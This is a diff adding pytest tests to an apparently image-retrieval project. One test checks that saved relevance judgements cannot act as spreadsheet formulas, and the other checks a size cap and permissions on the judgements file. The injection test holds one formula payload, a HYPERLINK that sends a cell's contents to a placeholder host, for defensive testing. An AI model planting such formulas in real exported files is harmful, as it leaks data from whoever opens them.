@@ -1,5 +1,6 @@
 """Relevance feedback and judgements: moved queries, the file that the page writes, and the verb that reads it."""
 
+import csv
 import json
 import math
 from collections.abc import Iterator
@@ -12,6 +13,7 @@ import torch
 from starlette.testclient import TestClient
 
 from bimcvr.cli import main
+from bimcvr.data import judgements
 from bimcvr.data.judgements import Query, append_judgement, read_judgements
 from bimcvr.errors import UserError
 from bimcvr.evaluation.embeddings import Embeddings, save_embeddings
@@ -83,6 +85,39 @@ def test_judgements_are_kept_and_the_last_one_holds(tmp_path: Path) -> None:
     path.write_text("mode,query,study_id,relevant\nkeyword,nodule,s1,maybe\n")
     with pytest.raises(UserError, match="line 2"):
         read_judgements(path)
+
+
+def test_no_judgement_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    path = tmp_path / "judgements.csv"
+    typed = ['=HYPERLINK("http://x"&A1)', "+1", "-nodule", "@x", "'=quoted", "plain"]
+    for query in typed:
+        append_judgement(path, Query("text", query), "=s1", True)
+    with path.open(newline="") as stream:
+        rows = list(csv.reader(stream))[1:]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+    assert read_judgements(path) == {Query("text", query): {"=s1": True} for query in typed}
+
+
+def test_the_file_of_judgements_stays_small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(judgements, "MOST_BYTES", 2000)
+    path, query = tmp_path / "judgements.csv", Query("text", "nodule")
+    for number in range(200):
+        append_judgement(path, query, f"s{number % 5}", number % 2 == 0)
+        assert path.stat().st_size <= 2000
+    assert read_judgements(path) == {query: {f"s{number % 5}": number % 2 == 0 for number in range(195, 200)}}
+    assert path.stat().st_mode & 0o777 == 0o600
+
+    def fill() -> None:
+        for number in range(200):
+            append_judgement(path, query, f"other{number}", True)
+
+    with pytest.raises(UserError, match="takes no more"):
+        fill()
+    kept = read_judgements(path)[query]
+    assert len(kept) > 30, "nothing of it is lost"
+    assert kept["s4"] is False
+    append_judgement(path.with_name("moved.csv"), query, "s1", True)
+    assert [one.name for one in sorted(tmp_path.iterdir())] == ["judgements.csv", "moved.csv"]
 
 
 def test_the_page_judges_and_evaluate_reads_it(
